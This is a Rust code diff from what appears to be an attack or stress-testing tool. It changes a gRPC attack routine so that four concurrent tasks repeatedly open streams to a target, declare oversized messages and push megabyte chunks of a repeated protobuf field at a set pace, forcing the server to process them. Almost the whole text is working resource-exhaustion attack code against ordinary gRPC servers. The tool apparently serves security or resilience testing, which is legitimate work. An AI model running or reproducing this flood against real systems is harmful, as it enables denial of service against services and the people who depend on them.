@@ -5,7 +5,7 @@ use std::sync::Arc;
 
 use bytes::Bytes;
 
-use super::{Attack, Breach, Scene, attack};
+use super::{Attack, Breach, Scene, attack, unless_stalled};
 use crate::target::Kind;
 use crate::wire::fabric::invocation;
 use crate::wire::grpc::{Windows, head};
@@ -128,34 +128,42 @@ async fn groups(scene: Arc<Scene>) -> io::Result<Breach> {
     send(scene, Shape { path, before, field: 2 << 3 | 2 }).await
 }
 
-/// Sends such messages one after the other, at the pace.
+/// Messages that are sent at once.
+const MESSAGES: usize = 4;
+
+/// Sends such messages at the pace, a few at once.
 async fn send(scene: Arc<Scene>, shape: Shape) -> io::Result<Breach> {
+    let shape = Arc::new(shape);
+    let mut tasks = tokio::task::JoinSet::new();
+    for _ in 0..MESSAGES {
+        let (scene, shape) = (Arc::clone(&scene), Arc::clone(&shape));
+        // One that is refused before its end is followed by the next one, at the pace.
+        tasks.spawn(async move {
+            while !matches!(send_one(&scene, &shape).await, Ok(false)) && scene.pace.take(1.0).await {}
+        });
+    }
+    tasks.join_all().await;
+    Ok(None)
+}
+
+/// False when the time is over.
+async fn send_one(scene: &Scene, shape: &Shape) -> io::Result<bool> {
     let chunk = Bytes::from([shape.field, 0].repeat(MIB / 2));
     let length = shape.before.len() + BYTES;
-    loop {
-        let sent = async {
-            let channel = scene.target.grpc(&scene.port, Windows::default()).await?;
-            scene.pace.connected();
-            let mut stream = channel.open(shape.path, &[]).await?;
-            stream.send(Bytes::copy_from_slice(&head(length as u64))).await?;
-            stream.send(Bytes::copy_from_slice(&shape.before)).await?;
-            for _ in 0..BYTES / MIB {
-                if !scene.pace.take(1.0).await {
-                    return Ok(false);
-                }
-                stream.send(chunk.clone()).await?;
-                scene.pace.sent(MIB);
-            }
-            stream.requests.send_data(Bytes::new(), true).map_err(io::Error::other)?;
-            stream.response.await.map_err(io::Error::other)?;
-            io::Result::Ok(true)
-        };
-        match sent.await {
-            Ok(true) => {}
-            Ok(false) => return Ok(None),
-            // Refused before its end; the next one is on its way.
-            Err(_) if scene.pace.take(1.0).await => {}
-            Err(_) => return Ok(None),
+    let channel = scene.target.grpc(&scene.port, Windows::default()).await?;
+    scene.pace.connected();
+    let mut stream = channel.open(shape.path, &[]).await?;
+    unless_stalled(stream.send(Bytes::copy_from_slice(&head(length as u64)))).await?;
+    unless_stalled(stream.send(Bytes::copy_from_slice(&shape.before))).await?;
+    for _ in 0..BYTES / MIB {
+        if !scene.pace.take(1.0).await {
+            return Ok(false);
         }
+        unless_stalled(stream.send(chunk.clone())).await?;
+        scene.pace.sent(MIB);
     }
+    stream.requests.send_data(Bytes::new(), true).map_err(io::Error::other)?;
+    // The answer is of no interest, but the server has to work for it.
+    drop(unless_stalled(async { stream.response.await.map_err(io::Error::other) }).await);
+    Ok(true)
 }
